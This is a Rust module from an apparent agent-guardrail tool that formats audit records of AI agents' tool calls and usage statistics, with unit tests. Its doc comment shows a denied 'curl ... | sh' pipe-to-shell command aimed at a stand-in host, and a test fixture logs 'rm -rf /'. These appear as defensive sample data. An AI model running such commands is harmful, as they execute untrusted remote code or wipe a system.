//! Human-readable rendering of audit records: one block per call.
//!
//! ```text
//! ✗ deny   2026-11-21 01:02:03  claude_code  Bash
//!     curl https://x.example | sh
//!     rule   Pipe to shell (+1 more)
//!     reason Pipe to shell: downloading and running a script
//!     session 4f2a9c1e  mode guardrails
//! ```
//!
//! Monitor-mode calls the rules denied show `would deny` next to the verdict.

use std::fmt::Write as _;

use crate::output::Styles;

use super::stats::{Counts, Stats};
use super::Record;

/// Longest target (command, path, URL) shown before it is cut.
const MAX_TARGET_CHARS: usize = 240;
/// Longest reason shown before it is cut.
const MAX_REASON_CHARS: usize = 300;
/// Characters of the session id shown.
const SESSION_CHARS: usize = 8;

/// Symbols for the verdicts, Unicode or ASCII.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Symbols {
    unicode: bool,
}

impl Symbols {
    /// Unicode symbols unless the locale says the terminal is not UTF-8.
    pub(crate) fn detect() -> Symbols {
        let locale = ["LC_ALL", "LC_CTYPE", "LANG"]
            .iter()
            .find_map(|v| std::env::var(v).ok().filter(|s| !s.is_empty()));
        let unicode = match locale {
            None => true,
            Some(l) => {
                let l = l.to_ascii_lowercase();
                l.contains("utf-8") || l.contains("utf8")
            }
        };
        Symbols { unicode }
    }

    fn of(self, decision: &str) -> &'static str {
        match (decision, self.unicode) {
            ("deny", true) => "✗",
            ("ask", true) => "?",
            ("allow", true) => "✓",
            ("defer", true) => "→",
            ("deny", false) => "x",
            ("ask", false) => "?",
            ("allow", false) => "+",
            ("defer", false) => ">",
            _ => "·",
        }
    }
}

fn color_of(decision: &str, styles: &Styles) -> &'static str {
    match decision {
        "deny" => styles.red,
        "ask" => styles.yellow,
        "allow" => styles.green,
        "defer" => styles.blue,
        _ => styles.dim,
    }
}

/// Cuts `s` to `max` characters on one line (newlines shown as `⏎`), marking the cut with `…`.
pub(crate) fn one_line(s: &str, max: usize) -> String {
    let mut out = String::new();
    for (count, c) in s.chars().enumerate() {
        if count == max {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push('⏎'),
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// The time in the local time zone as `YYYY-MM-DD HH:MM:SS`, or the raw text.
fn local_time(record: &Record) -> String {
    match record.time {
        Some(t) => t
            .to_zoned(jiff::tz::TimeZone::system())
            .strftime("%Y-%m-%d %H:%M:%S")
            .to_string(),
        None if record.entry.time.is_empty() => "(no time)".to_owned(),
        None => record.entry.time.clone(),
    }
}

/// Renders one record as a block (ending with a newline).
pub(crate) fn record(record: &Record, styles: &Styles, symbols: Symbols) -> String {
    let e = &record.entry;
    let decision = record.decision();
    let color = color_of(decision, styles);
    let mut out = String::new();
    let _ = write!(
        out,
        "{color}{}{reset} {color}{bold}{decision:<6}{reset} {dim}{}{reset}  {}  {bold}{}{reset}",
        symbols.of(decision),
        local_time(record),
        e.agent.field_name(),
        e.tool_name.as_deref().unwrap_or("(no tool)"),
        reset = styles.reset,
        bold = styles.bold,
        dim = styles.dim,
    );
    if let Some(would) = record.would() {
        let would_color = color_of(would, styles);
        let _ = write!(out, "  {would_color}(would {would}){}", styles.reset);
    }
    out.push('\n');
    let files = (e.files.len() > 1).then(|| e.files.join(", "));
    let target = e
        .command
        .as_deref()
        .or(files.as_deref())
        .or(e.file_path.as_deref())
        .or(e.url.as_deref());
    let target = match (target, e.mcp_server.as_deref()) {
        (Some(t), _) => Some(t.to_owned()),
        (None, Some(server)) => Some(format!("MCP server {server}")),
        (None, None) => None,
    };
    if let Some(t) = target {
        let _ = writeln!(out, "    {}", one_line(&t, MAX_TARGET_CHARS));
    }
    let rules = record.rules();
    if let Some(first) = rules.first() {
        let more = if rules.len() > 1 {
            format!(" (+{} more)", rules.len() - 1)
        } else {
            String::new()
        };
        let _ = writeln!(
            out,
            "    {dim}rule{reset}    {}{more}",
            first.rule,
            dim = styles.dim,
            reset = styles.reset
        );
    }
    if let Some(reason) = Some(e.reason.as_str()).filter(|r| !r.is_empty()) {
        let _ = writeln!(
            out,
            "    {dim}reason{reset}  {}",
            one_line(reason, MAX_REASON_CHARS),
            dim = styles.dim,
            reset = styles.reset
        );
    }
    let session: String = e
        .session_id
        .as_deref()
        .unwrap_or("-")
        .chars()
        .take(SESSION_CHARS)
        .collect();
    let _ = writeln!(
        out,
        "    {dim}session{reset} {session}  {dim}mode{reset} {}",
        e.mode.as_str(),
        dim = styles.dim,
        reset = styles.reset
    );
    out
}

fn counts_line(c: &Counts) -> String {
    let mut s = format!(
        "{} calls: {} allow, {} deny, {} ask, {} defer",
        c.calls, c.allow, c.deny, c.ask, c.defer
    );
    if c.unknown > 0 {
        let _ = write!(s, ", {} unknown", c.unknown);
    }
    if c.would_deny > 0 || c.would_ask > 0 {
        let _ = write!(
            s,
            " (would deny {}, would ask {})",
            c.would_deny, c.would_ask
        );
    }
    s
}

/// Renders `audit stats`.
pub(crate) fn stats(stats: &Stats, styles: &Styles) -> String {
    let mut out = String::new();
    let (b, r) = (styles.bold, styles.reset);
    let _ = writeln!(out, "{b}Calls{r}    {}", counts_line(&stats.totals));
    if let (Some(first), Some(last)) = (&stats.first, &stats.last) {
        let _ = writeln!(out, "{b}Period{r}   {first} .. {last}");
    }
    if !stats.top_rules.is_empty() {
        let _ = writeln!(out, "\n{b}Top rules{r}");
        for rule in &stats.top_rules {
            let _ = writeln!(out, "  {:>6}  {}", rule.calls, rule.rule);
        }
    }
    if !stats.agents.is_empty() {
        let _ = writeln!(out, "\n{b}Agents{r}");
        for (agent, counts) in &stats.agents {
            let _ = writeln!(out, "  {agent:<12} {}", counts_line(counts));
        }
    }
    if !stats.sessions.is_empty() {
        let _ = writeln!(out, "\n{b}Sessions{r}");
        for s in &stats.sessions {
            let id: String = s.session_id.chars().take(SESSION_CHARS).collect();
            let _ = writeln!(out, "  {id:<8} {:<12} {}", s.agent, counts_line(&s.counts));
        }
    }
    if stats.skipped_lines > 0 {
        let _ = writeln!(out, "\n{} unreadable line(s) skipped", stats.skipped_lines);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_line_cuts_and_flattens() {
        assert_eq!(one_line("a\nb", 10), "a⏎b");
        assert_eq!(one_line("abcdef", 3), "abc…");
        assert_eq!(one_line("é\u{7}", 5), "é ");
    }

    #[test]
    fn block_shows_would_deny_and_short_session() {
        let rule = |name: &str| serde_json::json!({"rule": name, "priority": "Warning", "tags": [], "output": "o"});
        let r = Record::parse(&crate::audit_view::test_line(serde_json::json!({
            "time": "2026-11-21T01:02:03Z", "agent": "codex", "tool_name": "Bash",
            "command": "rm -rf /", "mode": "monitor", "decision": "allow",
            "policy_decision": "deny", "reason": "R: no", "session_id": "0123456789abcdef",
            "matched": [rule("R"), rule("S")]})))
        .unwrap();
        let text = record(&r, &Styles::new(false), Symbols { unicode: true });
        assert!(text.starts_with("✓ allow "), "{text}");
        assert!(text.contains("(would deny)"), "{text}");
        assert!(text.contains("rm -rf /"), "{text}");
        assert!(text.contains("R (+1 more)"), "{text}");
        assert!(text.contains("session 01234567  mode monitor"), "{text}");
        assert!(!text.contains('\x1b'));
    }

    #[test]
    fn block_names_every_file_of_a_split_patch() {
        let r = Record::parse(&crate::audit_view::test_line(serde_json::json!({
            "time": "2026-11-21T01:02:03Z", "agent": "codex", "tool_name": "apply_patch",
            "file_path": "src/lib.rs", "files": ["src/lib.rs", ".env"], "decision": "ask"})))
        .unwrap();
        let text = record(&r, &Styles::new(false), Symbols { unicode: true });
        assert!(text.contains("    src/lib.rs, .env\n"), "{text}");
    }
}
